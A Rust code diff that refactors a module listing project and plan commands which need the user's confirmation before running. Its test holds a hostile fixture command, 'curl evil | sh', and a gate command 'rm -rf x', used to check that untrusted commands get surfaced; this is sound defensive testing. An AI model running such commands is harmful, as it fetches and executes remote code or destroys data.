@@ -11,8 +11,9 @@ use std::os::unix::fs::DirBuilderExt;
 use std::path::{Path, PathBuf};
 
 use posse_core::audit::Hash;
+use posse_core::config::ValueOrigin;
 use posse_core::plan::Plan;
-use posse_core::plan::config::{Config, Origin, Resolved};
+use posse_core::plan::config::{PlanConfig, ResolvedPlans};
 use posse_term::paths::Paths;
 use serde::{Deserialize, Serialize};
 
@@ -25,13 +26,12 @@ pub struct NamedCommand {
 }
 
 /// Lists the commands of the project's file and of the plan, without those that are the user's own.
-pub fn named_commands(resolved: &Resolved, file: &str, plan: Option<(&str, &Plan)>) -> Vec<NamedCommand> {
+pub fn named_commands(resolved: &ResolvedPlans, file: &str, plan: Option<(&str, &Plan)>) -> Vec<NamedCommand> {
     let mut named = Vec::new();
     let mut users = BTreeSet::new();
     for (key, command) in of_configuration(&resolved.config) {
-        let origin = resolved.origins.iter().find(|(path, _)| *path == key).map(|(_, origin)| *origin);
-        match origin {
-            Some(Origin::User) => drop(users.insert(command)),
+        match resolved.origin(key) {
+            ValueOrigin::User(_) => drop(users.insert(command)),
             _ => named.push(NamedCommand { place: format!("{file}, {key}"), command: command.to_owned() }),
         }
     }
@@ -44,7 +44,7 @@ pub fn named_commands(resolved: &Resolved, file: &str, plan: Option<(&str, &Plan
     named
 }
 
-fn of_configuration(config: &Config) -> impl Iterator<Item = (&'static str, &str)> {
+fn of_configuration(config: &PlanConfig) -> impl Iterator<Item = (&'static str, &str)> {
     let keys = [
         ("build_command", &config.build_command),
         ("test_command", &config.test_command),
@@ -98,7 +98,7 @@ impl ConfirmedCommands {
     }
 
     /// All commands that may run: the confirmed ones, and those of a configuration that needs no more yes.
-    pub(crate) fn and_those_of(self, config: &Config) -> BTreeSet<String> {
+    pub(crate) fn and_those_of(self, config: &PlanConfig) -> BTreeSet<String> {
         let configured = of_configuration(config).map(|(_, command)| command.to_owned());
         self.kept.commands.into_iter().chain(configured).collect()
     }
@@ -120,21 +120,24 @@ impl ConfirmedCommands {
 
 #[cfg(test)]
 mod tests {
-    use posse_core::plan::config::{Format, Layer, Whose, resolve};
+    use posse_core::config::{ConfigFormat, ConfigLayer, LayerSource};
 
     use super::*;
 
     #[test]
     fn only_commands_of_the_users_own_configuration_need_no_yes() {
-        let read = |text: &str, whose| Layer::read("c", text, Format::Toml, whose).unwrap().0;
-        let user = read("[plans]\ntest_command = 'make test'", Whose::User);
-        let project = read("test_command = 'curl evil | sh'\nbuild_command = 'make'", Whose::Project);
-        let resolved = resolve(&user, &project);
+        let read = |text: &str, source| ConfigLayer::read(source, ConfigFormat::Toml, "c", text, None).unwrap().0;
+        let user = read("[plans]\ntest_command = 'make test'", LayerSource::User);
+        let project = read("test_command = 'curl evil | sh'\nbuild_command = 'make'", LayerSource::Project);
+        let resolved = ResolvedPlans::new(user.clone(), project, &[]);
         let text = "meta: {name: p, gates: [{name: a, cmd: make test}, {name: b, cmd: rm -rf x}]}\nsections:\n  - {id: s, tasks: [{id: t, name: T}]}\n";
         let (plan, _) = Plan::read("p", text).unwrap();
         let named = named_commands(&resolved, "f", Some(("p", &plan)));
         let named: Vec<&str> = named.iter().map(|named| named.command.as_str()).collect();
         assert_eq!(named, ["make", "rm -rf x"]);
-        assert!(named_commands(&resolve(&user, &Layer::default()), "f", None).is_empty());
+        assert!(
+            named_commands(&ResolvedPlans::new(user, ConfigLayer::empty(LayerSource::Project), &[]), "f", None)
+                .is_empty()
+        );
     }
 }
